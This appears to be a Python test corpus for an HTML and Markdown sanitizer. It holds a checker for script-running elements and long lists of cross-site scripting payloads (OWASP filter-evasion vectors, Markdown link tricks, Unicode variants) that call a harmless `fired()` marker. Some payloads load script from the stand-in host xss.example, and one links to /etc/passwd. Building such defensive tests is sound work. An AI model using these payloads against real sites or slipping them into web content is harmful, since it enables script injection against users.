"""What people try in a text field to make it run: the tricks of OWASP's filter-evasion sheet and of Markdown.

Each calls `fired()` if it runs, wherever it can.
"""

from html.parser import HTMLParser


class Elements(HTMLParser):
    """Every element in a piece of HTML with its attributes, as a browser reads it."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, {name: value or "" for name, value in attributes}))


def what_could_run(html):
    """The elements of a page that run something that is not a file of ours."""
    return [
        (tag, attributes)
        for tag, attributes in Elements(html).found
        if any(name.startswith(("on", "hx-on")) for name in attributes)
        or any(
            attributes.get(name, "").lower().strip().startswith(RUNS) for name in ("href", "src", "action")
        )
        or tag in {"iframe", "object", "embed", "base", "style", "math", "animate", "use"}
        or (tag == "script" and attributes.get("type") != "application/ld+json" and "src" not in attributes)
    ]


RUNS = ("javascript:", "data:", "vbscript:")
OWASP = [
    "<script>fired()</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    '<IMG SRC="javascript:fired();">',
    "<IMG SRC=javascript:fired()>",
    "<IMG SRC=JaVaScRiPt:fired()>",
    "<IMG SRC=javascript:fired(&quot;XSS&quot;)>",
    '<IMG SRC=`javascript:fired("x")`>',
    '<a onmouseover="fired()">xxs link</a>',
    "<a onmouseover=fired()>xxs link</a>",
    '<IMG """><SCRIPT>fired()</SCRIPT>"\\>',
    "<IMG SRC=javascript:fired(String.fromCharCode(88,83,83))>",
    '<IMG SRC=# onmouseover="fired()">',
    '<IMG SRC= onmouseover="fired()">',
    '<IMG onmouseover="fired()">',
    '<IMG SRC=/ onerror="fired()"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#102;&#105;&#114;&#101;&#100;&#40;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x66&#x69&#x72&#x65&#x64&#x28&#x29>",
    '<IMG SRC="jav\tascript:fired();">',
    '<IMG SRC="jav&#x09;ascript:fired();">',
    '<IMG SRC="jav&#x0A;ascript:fired();">',
    '<IMG SRC="jav&#x0D;ascript:fired();">',
    '<IMG SRC=" &#14;  javascript:fired();">',
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=fired()>",
    "<<SCRIPT>fired();//\\<</SCRIPT>",
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    '<IMG SRC="`<javascript:fired()"`',
    '\\";fired();//',
    "</script><script>fired();</script>",
    "</TITLE><SCRIPT>fired();</SCRIPT>",
    '<INPUT TYPE="IMAGE" SRC="javascript:fired();">',
    '<BODY BACKGROUND="javascript:fired()">',
    '<IMG DYNSRC="javascript:fired()">',
    '<STYLE>li {list-style-image: url("javascript:fired()");}</STYLE><UL><LI>XSS</br>',
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<svg/onload=fired()>",
    "<svg><script>fired()</script></svg>",
    "<svg><animate onbegin=fired() attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:fired()"><text x=20 y=20>XSS</text></a>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ZmlyZWQoKT4=#x"/></svg>',
    "<BODY ONLOAD=fired()>",
    '<BGSOUND SRC="javascript:fired();">',
    '<BR SIZE="&{fired()}">',
    '<LINK REL="stylesheet" HREF="javascript:fired();">',
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:fired();">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+">',
    '<IFRAME SRC="javascript:fired();"></IFRAME>',
    '<IFRAME SRC=# onmouseover="fired()"></IFRAME>',
    '<iframe srcdoc="<script>parent.fired()</script>"></iframe>',
    '<FRAMESET><FRAME SRC="javascript:fired();"></FRAMESET>',
    '<TABLE BACKGROUND="javascript:fired()">',
    '<TABLE><TD BACKGROUND="javascript:fired()">',
    '<DIV STYLE="background-image: url(javascript:fired())">',
    '<DIV STYLE="width: expression(fired());">',
    '<IMG STYLE="xss:expr/*XSS*/ession(fired())">',
    '<STYLE TYPE="text/javascript">fired();</STYLE>',
    '<XSS STYLE="behavior: url(xss.htc);">',
    "<!--[if gte IE 4]><SCRIPT>fired();</SCRIPT><![endif]-->",
    '<BASE HREF="javascript:fired();//">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuZmlyZWQoKTwvc2NyaXB0Pg=="></object>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ZmlyZWQoKT4=" type="image/svg+xml">',
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:fired()"></B></I></XML>',
    "<? echo('<SCR)'; echo('IPT>fired()</SCRIPT>'); ?>",
    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-fired();+ADw-/SCRIPT+AD4-',
    '<SCRIPT a=">" SRC="https://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://xss.example/xss.js"></SCRIPT>',
    '<A HREF="http://66.102.7.147/">XSS</A>',
    '<A HREF="//www.google.com/">XSS</A>',
    "<A HREF=\"javascript:document.location='https://xss.example/'\">XSS</A>",
    "<details open ontoggle=fired()>",
    "<video><source onerror=fired()></video>",
    "<audio src=x onerror=fired()>",
    "<input autofocus onfocus=fired()>",
    "<select autofocus onfocus=fired()>",
    "<textarea autofocus onfocus=fired()>",
    "<marquee onstart=fired()>",
    '<math href="javascript:fired()">CLICK</math>',
    '<form action="javascript:fired()"><button>x</button></form>',
    "<button formaction=javascript:fired()>x</button>",
    "<template><script>fired()</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=fired()>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=fired()>",
    '<p hx-on:click="fired()" hx-get="/" hx-trigger="load">x</p>',
    "'';!--\"<XSS>=&{()}",
]
MARKDOWN = [
    "[x](javascript:fired())",
    "[x](JaVaScRiPt:fired())",
    "[x](  javascript:fired())",
    "[x](<javascript:fired()>)",
    "[x](java\tscript:fired())",
    "[x](java&#10;script:fired())",
    "[x](&#106;avascript:fired())",
    "[x](&#x6A;&#x61;vascript&colon;fired())",
    "[x](javascript&#58;fired())",
    "[x](\\javascript:fired())",
    "[x](%6Aavascript:fired())",
    "[x](\x01javascript:fired())",
    "[x](vbscript:fired())",
    "[x](data:text/html,<script>fired()</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ZmlyZWQoKT4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://xss.example/1)",
    '[x](https://a.example" onmouseover="fired())',
    "[x](https://a.example 'onmouseover=fired()')",
    '[x](https://a.example "\\"onmouseover=fired()\\"")',
    "[<img src=x onerror=fired()>](https://a.example)",
    "[x]: javascript:fired()\n\n[x]",
    "![x](javascript:fired())",
    '![x](x" onerror="fired())',
    "![<svg onload=fired()>](https://a.example/x.png)",
    "![x](https://tracker.example/x.png)",
    "<javascript:fired()>",
    '<https://a.example/"onmouseover="fired()>',
    "`<img src=x onerror=fired()>`",
    "```html\n<script>fired()</script>\n```",
    "    <script>fired()</script>",
    "# <script>fired()</script>",
    "> <script>fired()</script>",
    "- <img src=x onerror=fired()>",
    "1. [x](javascript:fired())",
    "**<script>fired()</script>**",
    "*<svg onload=fired()>*",
    "https://a.example/<script>fired()</script>",
    'https://a.example/"onmouseover="fired()',
    "javascript:fired()",
    'www.a.example" onclick="fired()',
    'a@b.example" onclick=fired()',
    "[a](https://x.example)[b](javascript:fired())",
    "[a](https://x.example/?q=<script>fired()</script>)",
    "\\<script>fired()\\</script>",
    "&lt;script&gt;fired()&lt;/script&gt;",
    "&#60;script&#62;fired()&#60;/script&#62;",
]
UNICODE = [
    "\uff1cscript\uff1efired()\uff1c/script\uff1e",
    "<\u0000script>fired()</script>",
    "<scr\u200bipt>fired()</scr\u200bipt>",
    "<\u017fcript>fired()</\u017fcript>",
    "\u202e<script>fired()</script>",
    "[x](java\u2028script:fired())",
    "[x](\u3000javascript:fired())",
    "<img src=x onerror\u3000=fired()>",
    "<img src=x on\u0130rror=fired()>",
    "\ufeff<script>fired()</script>",
]
CORPUS = OWASP + MARKDOWN + UNICODE
